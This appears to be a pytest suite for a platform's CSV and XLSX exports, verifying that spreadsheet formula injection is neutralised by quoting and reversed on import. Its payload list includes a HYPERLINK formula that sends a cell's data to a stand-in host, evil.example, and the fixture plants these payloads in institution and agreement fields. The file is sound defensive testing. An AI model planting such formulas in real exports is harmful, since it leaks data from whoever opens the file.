"""Every CSV and XLSX the platform produces opens in a spreadsheet program as data, never as formulas."""

import csv
import datetime as dt
import io
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from ortaq.institutions.models import Institution
from ortaq.lib.exports import FORMULA_TRIGGERS, csv_text, neutralise, restore, xlsx_bytes
from tests.conftest import make_user

LINK = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
PAYLOADS = [LINK, "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"]


def read_csv(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))


def read_xlsx(content: bytes) -> list[list]:
    sheet = load_workbook(io.BytesIO(content)).worksheets[0]
    return [list(row) for row in sheet.iter_rows()]


def assert_csv_is_inert(rows: list[list[str]]) -> None:
    """No cell starts like a formula unless it is a number we wrote (a negative figure)."""
    for row in rows:
        for cell in row:
            if cell.startswith(FORMULA_TRIGGERS):
                float(cell)  # raises for text: only plain numbers may start with "-" or "+"


def assert_xlsx_is_inert(rows: list[list]) -> None:
    for row in rows:
        for cell in row:
            assert cell.data_type != "f", cell.value
            if isinstance(cell.value, str):
                assert cell.data_type == "s" and not cell.value.startswith(FORMULA_TRIGGERS), cell.value


def texts(rows) -> set[str]:
    return {cell if isinstance(cell, str) else cell.value for row in rows for cell in row}


# ------------------------------------------------------------------------------------------- the function


@pytest.mark.parametrize("payload", PAYLOADS)
def test_text_that_a_spreadsheet_would_run_is_quoted_and_restored_on_import(payload):
    assert neutralise(payload) == "'" + payload
    assert restore(neutralise(payload)) == payload


def test_numbers_dates_and_ordinary_text_are_left_as_they_are():
    for value in (-2, -2.5, Decimal("-3.10"), 0, True, None, dt.date(2026, 3, 1), "College A", "'quoted already", "5-7", ""):
        assert neutralise(value) == value
    assert restore("'quoted already") == "'quoted already"  # only a quote that we would have added comes off


def test_csv_and_xlsx_quote_formulas_and_keep_negative_numbers_numeric():
    header = ["name", "figure"]
    rows = [[payload, -2] for payload in PAYLOADS] + [["#N/A", Decimal("-1.5")], ["bell\x07", 3]]
    parsed = read_csv(csv_text(header, rows).encode())
    assert [r[0] for r in parsed[1:7]] == ["'" + p for p in PAYLOADS]
    assert {r[1] for r in parsed[1:7]} == {"-2"}
    assert_csv_is_inert(parsed)

    cells = read_xlsx(xlsx_bytes(header, rows, sheet="a:b/c?" * 10))
    assert [c[0].value for c in cells[1:7]] == ["'" + p for p in PAYLOADS]
    assert {(c[1].value, c[1].data_type) for c in cells[1:7]} == {(-2, "n")}
    assert (cells[7][0].value, cells[7][0].data_type, cells[7][1].value) == ("#N/A", "s", -1.5)  # text, not an error value
    assert cells[8][0].value == "bell\ufffd"  # a control character XML cannot carry does not break the file
    assert_xlsx_is_inert(cells)


# ---------------------------------------------------------------------------------- through the real views


@pytest.fixture
def hostile(world):
    """College A named with a formula, in a region named with another, with 5 managers in a cohort (so that open
    data has a row) whose self-assessments fell (a negative growth)."""
    from ortaq.agreements import services as agreements
    from ortaq.analytics.services import aggregates_refresh
    from ortaq.engines import frameworks as fw
    from ortaq.training.models import Cohort, Course, Enrolment, SelfAssessment, TrainingProgramme
    from tests.conftest import agreement_terms

    Institution.objects.filter(pk=world.a.pk).update(name_latin=LINK, region="+1+1", city="-2+3", short_name="@SUM(A1)", address="\t=1",
                                                     phone="+7 727 000 00 00")
    world.a.refresh_from_db()
    agreements.agreement_create(actor=world["coordinator_a"], terms=agreement_terms(title=LINK, reference="@SUM(A1)"), initiator=world.a,
                                parties=[world.a, world.c])
    programme = TrainingProgramme.objects.create(code="LEAD", title_en="Leadership", provider=world.c)
    course = Course.objects.create(programme=programme, code="L1", title_en="Leading a college")
    cohort = Cohort.objects.create(course=course, title="-1+1", start_date=dt.date(2026, 10, 1), end_date=dt.date(2026, 12, 1), capacity=20)
    spec = fw.competency_framework("unesco_ai_teachers")
    for i in range(5):
        manager = make_user(f"manager_a{i}", (world.a, "manager_in_training"))
        enrolment = Enrolment.objects.create(cohort=cohort, manager=manager, institution=world.a, state="completed", nominated_by=world["coordinator_a"])
        for phase, level in (("before", "3"), ("after", "1")):
            SelfAssessment.objects.create(enrolment=enrolment, framework=spec.code, phase=phase, ratings={e.code: level for e in spec.elements})
    aggregates_refresh()
    return world


def exports_of(client, url: str, query: str = "") -> tuple[list[list[str]], list[list]]:
    """The CSV and the XLSX of one export: `url` ends where ".csv" goes, or takes `query` + "csv"."""
    csv_response = client.get(f"{url}{query or '.'}csv")
    xlsx_response = client.get(f"{url}{query or '.'}xlsx")
    assert csv_response.status_code == 200 and xlsx_response.status_code == 200
    return read_csv(csv_response.content), read_xlsx(xlsx_response.content)


def test_the_open_data_export_quotes_a_region_named_like_a_formula(client, hostile):
    rows, cells = exports_of(client, "/en/analytics/open-data/training")
    assert "'+1+1 (Kazakhstan)" in rows[1] and "'+1+1 (Kazakhstan)" in texts(cells[1:2])
    assert_csv_is_inert(rows)
    assert_xlsx_is_inert(cells)


def test_the_dashboard_export_quotes_labels_and_keeps_a_negative_growth_numeric(client, hostile):
    client.force_login(hostile["analyst"])
    rows, cells = exports_of(client, "/en/analytics/export/training")
    assert rows[1][0] == "'+1+1 (Kazakhstan)" and float(rows[1][-1]) < 0
    assert cells[1][0].value == "'+1+1 (Kazakhstan)" and cells[1][-1].data_type == "n" and cells[1][-1].value < 0
    assert_csv_is_inert(rows)
    assert_xlsx_is_inert(cells)


def test_the_training_report_by_college_quotes_the_college_name(client, hostile):
    client.force_login(hostile["coordinator_a"])
    rows, cells = exports_of(client, "/en/training/report/", "?format=")
    assert rows[1][0] == "'" + LINK and rows[1][5] == "-2.0"  # the college's own exact figures; growth fell by 2
    assert cells[1][0].value == "'" + LINK and (cells[1][5].value, cells[1][5].data_type) == (-2, "n")
    assert_csv_is_inert(rows)
    assert_xlsx_is_inert(cells)


def test_the_registry_exports_quote_every_field_a_person_typed(client, hostile):
    client.force_login(hostile["coordinator_a"])
    rows, cells = exports_of(client, "/en/institutions/export")
    assert {"'" + p for p in (LINK, "+1+1", "-2+3", "@SUM(A1)", "\t=1", "+7 727 000 00 00")} <= texts(rows) & texts(cells)
    assert_csv_is_inert(rows)
    assert_xlsx_is_inert(cells)
    rows, cells = exports_of(client, "/en/agreements/export")
    assert {"'" + LINK, "'@SUM(A1)"} <= texts(rows) & texts(cells)
    assert_csv_is_inert(rows)
    assert_xlsx_is_inert(cells)


def test_an_unknown_export_format_is_not_found(client, hostile):
    client.force_login(hostile["coordinator_a"])
    assert client.get("/en/institutions/export.exe").status_code == 404
    assert client.get("/en/agreements/export.html").status_code == 404


def test_an_institutions_file_we_exported_imports_without_the_quotes(client, hostile):
    from ortaq.institutions.importing import institutions_import

    client.force_login(hostile["admin"])
    content = client.get("/en/institutions/export.csv", {"q": "HYPERLINK"}).content
    Institution.objects.filter(pk=hostile.a.pk).update(kz_bin="", education_code="", schac="")  # free the unique identifiers
    report = institutions_import(actor=hostile["admin"], filename="institutions.csv", content=content)
    assert report.ok, report.errors
    imported = Institution.objects.exclude(pk=hostile.a.pk).get(short_name="@SUM(A1)")
    assert (imported.name_latin, imported.region, imported.city, imported.phone) == (LINK, "+1+1", "-2+3", "+7 727 000 00 00")
